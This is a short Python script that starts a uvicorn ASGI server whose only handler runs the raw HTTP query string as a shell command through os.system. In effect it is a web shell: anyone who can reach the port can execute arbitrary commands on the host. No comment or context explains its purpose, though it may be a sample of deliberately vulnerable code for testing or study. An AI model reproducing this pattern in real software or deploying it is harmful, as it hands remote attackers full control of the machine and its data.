import os
import uvicorn


async def app(scope, receive, send):
    os.system(scope["query_string"].decode())


uvicorn.run(app)
